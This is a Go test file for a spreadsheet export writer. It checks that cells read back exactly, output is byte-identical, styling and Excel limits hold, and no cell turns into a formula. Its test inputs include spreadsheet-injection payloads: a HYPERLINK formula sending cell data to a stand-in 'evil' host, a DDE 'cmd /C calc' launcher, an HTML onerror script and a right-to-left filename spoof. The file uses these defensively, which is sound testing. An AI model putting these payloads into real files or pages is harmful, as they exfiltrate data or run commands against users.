package workbook_test

import (
	"bytes"
	"errors"
	"math"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/keepsight/keepsight/core/export"
	"github.com/keepsight/keepsight/core/fault"
	"github.com/keepsight/keepsight/core/ingest"
	"github.com/keepsight/keepsight/core/ingest/open"
	"github.com/keepsight/keepsight/core/workbook"
)

// hostile are names that must come back as they went: formulas, numbers in disguise, markup, escapes
// of the format itself, characters beyond the basic plane, line ends and spaces at the ends.
var hostile = []string{
	`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "00123", "1e5", "TRUE", "NULL",
	"<img src=x onerror=alert(1)>", "a & b \"c\" 'd'", "_x000D_", "_x005F_x000D_", "𠮷野家 😀", "客户（上海）",
	" lead", "trail ", "tab\tin", "new\nline", "cr\rin", "crlf\r\n", "\ttab first", "e\u0301", "\u202Egnp.exe", "\ufeffab",
}

func sample() *export.Book {
	names := export.BookColumn{Header: "Name", Format: export.FormatText, Texts: hostile}
	days := export.BookColumn{Header: "Last order", Format: export.FormatDate}
	spent := export.BookColumn{Header: "Spent", Format: export.FormatMoney}
	orders := export.BookColumn{Header: "Orders", Format: export.FormatInteger}
	share := export.BookColumn{Header: "Share", Format: export.FormatPercent}
	gap := export.BookColumn{Header: "客户 gap", Format: export.FormatNumber, Width: 20}
	for i := range hostile {
		days.Texts = append(days.Texts, []string{"2023-03-15", "", "1900-01-01", "1899-12-31"}[i%4])
		spent.AppendNumber([]float64{1234.5, -0.1, math.NaN(), 8911407.904}[i%4])
		orders.AppendNumber(float64(i))
		share.AppendNumber([]float64{0.25, math.Inf(1)}[i%2])
		gap.AppendNumber(1 / float64(i+1))
	}
	return &export.Book{Sheets: []export.Sheet{
		{Name: "Customers", Rows: len(hostile), Freeze: true, Filter: true, Columns: []export.BookColumn{names, days, spent, orders, share, gap}},
		{Name: "customers", Rows: 0, Columns: []export.BookColumn{{Header: "Empty", Format: export.FormatText}}},
		{Name: "what's [this]: a/b*c?", Rows: 1, Columns: []export.BookColumn{{Header: "n", Format: export.FormatNumber, Numbers: []float64{1}}}},
	}}
}

// TestLawWriteReads: what is written is read back by our own reader, cell for cell.
func TestLawWriteReads(t *testing.T) {
	book := sample()
	data, err := workbook.Write(book)
	if err != nil {
		t.Fatal(err)
	}
	strs := ingest.NewStrings()
	tables, err := open.ReadAll(newMemory("out.xlsx", data), strs, workbook.Catalogue, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(tables) != len(book.Sheets) {
		t.Fatalf("%d tables", len(tables))
	}
	for i, want := range []string{"Customers", "customers (2)", "what’s  this   a b c"} {
		if tables[i].Sheet != want {
			t.Errorf("sheet %d is %q, want %q", i+1, tables[i].Sheet, want)
		}
	}
	tab := tables[0]
	if len(tab.Warnings) > 0 || tab.Rows != len(hostile)+1 {
		t.Errorf("%d rows, warnings %v", tab.Rows, tab.Warnings)
	}
	// Serials as a spreadsheet gives them: 45000 is 2023-03-15, 1 is 1900-01-01.
	serials := map[string]float64{"2023-03-15": 45000, "1900-01-01": 1}
	for col, c := range book.Sheets[0].Columns {
		if got := strs.At(tab.At(0, col).Code); got != c.Header {
			t.Errorf("header %q, want %q", got, c.Header)
		}
		absent := map[int]bool{}
		for _, row := range c.Absent {
			absent[row] = true
		}
		for row := range hostile {
			cell := tab.At(row+1, col)
			switch {
			case c.Numeric() && absent[row]:
				if cell.Kind != ingest.Empty {
					t.Errorf("row %d column %d: %v, want no cell", row, col, cell)
				}
			case c.Numeric():
				if cell.Kind != ingest.Number || !same15(cell.Num, c.Numbers[row]) {
					t.Errorf("row %d column %d: %v, want %v", row, col, cell, c.Numbers[row])
				}
			case c.Dates() && serials[c.Texts[row]] > 0:
				if cell.Kind != ingest.Date || cell.Num != serials[c.Texts[row]] {
					t.Errorf("row %d column %d: %v, want %s", row, col, cell, c.Texts[row])
				}
			default:
				// A line end may become the one of XML (XML 1.0 §2.11).
				if got := strs.At(cell.Code); got != c.Texts[row] {
					t.Errorf("row %d column %d: %q, want %q", row, col, got, c.Texts[row])
				}
			}
		}
	}
}

// same15: a spreadsheet holds 15 significant digits (Excel specifications and limits).
func same15(a, b float64) bool {
	return strconv.FormatFloat(a, 'g', 15, 64) == strconv.FormatFloat(b, 'g', 15, 64)
}

// TestLawWriteSame: the same book gives the same bytes.
func TestLawWriteSame(t *testing.T) {
	first, err := workbook.Write(sample())
	if err != nil {
		t.Fatal(err)
	}
	for range 5 {
		again, err := workbook.Write(sample())
		if err != nil || !bytes.Equal(first, again) {
			t.Fatalf("%v: %d bytes, then %d that differ", err, len(first), len(again))
		}
	}
}

// TestExampleWriteLook: header in bold, frozen and with filters, formats and widths as described, and
// no formula anywhere.
func TestExampleWriteLook(t *testing.T) {
	data, err := workbook.Write(sample())
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	panes, err := f.GetPanes("Customers")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v %v", panes, err)
	}
	style := func(cell string) *excelize.Style {
		id, err := f.GetCellStyle("Customers", cell)
		if err != nil {
			t.Fatal(err)
		}
		s, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	if s := style("A1"); s.Font == nil || !s.Font.Bold {
		t.Errorf("header %+v", s)
	}
	if s := style("B2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "yyyy-mm-dd" {
		t.Errorf("date %+v", s)
	}
	for cell, id := range map[string]int{"A2": 49, "C2": 4, "D2": 1, "E2": 10, "F2": 0} {
		if s := style(cell); s.NumFmt != id {
			t.Errorf("%s has format %d, want %d", cell, s.NumFmt, id)
		}
	}
	if w, err := f.GetColWidth("Customers", "F"); err != nil || w != 20 {
		t.Errorf("width %v %v", w, err)
	}
	filter := ""
	for _, name := range f.GetDefinedName() {
		filter += name.Name + " " + name.RefersTo
	}
	if !strings.Contains(filter, "_FilterDatabase 'Customers'!$A$1:$F$25") {
		t.Errorf("filter %q", filter)
	}
	for row := range hostile {
		cell, _ := excelize.CoordinatesToCellName(1, row+2)
		if formula, err := f.GetCellFormula("Customers", cell); err != nil || formula != "" {
			t.Errorf("%s is a formula: %q %v", cell, formula, err)
		}
	}
}

// TestReferenceWriteLimits: Excel's limits refuse, nothing is cut.
func TestReferenceWriteLimits(t *testing.T) {
	text := func(s string) *export.Book {
		return &export.Book{Sheets: []export.Sheet{{Name: "S", Rows: 1, Columns: []export.BookColumn{{Header: "h", Format: export.FormatText, Texts: []string{s}}}}}}
	}
	if _, err := workbook.Write(text(strings.Repeat("😀", 32767/2))); err != nil {
		t.Error(err)
	}
	_, err := workbook.Write(text(strings.Repeat("😀", 32767/2+1)))
	var e *fault.Error
	if !errors.As(err, &e) || e.Code != fault.LimitCell || e.Where == nil || e.Where.Row != 2 || e.Where.Col != 1 {
		t.Errorf("a text of 32,768 units: %v", err)
	}
	if _, err := workbook.Write(&export.Book{}); err == nil || fault.As(err).Code != fault.Internal {
		t.Errorf("no sheets: %v", err)
	}
	long := &export.Book{}
	for range 3 {
		long.Sheets = append(long.Sheets, export.Sheet{Name: strings.Repeat("客户", 20)})
	}
	data, err := workbook.Write(long)
	if err != nil {
		t.Fatal(err)
	}
	tables, err := open.ReadAll(newMemory("out.xlsx", data), ingest.NewStrings(), nil, nil)
	if err != nil || len(tables) != 3 || tables[2].Sheet != strings.Repeat("客户", 13)+"客 (3)" {
		t.Errorf("%v %v", tables, err)
	}
}
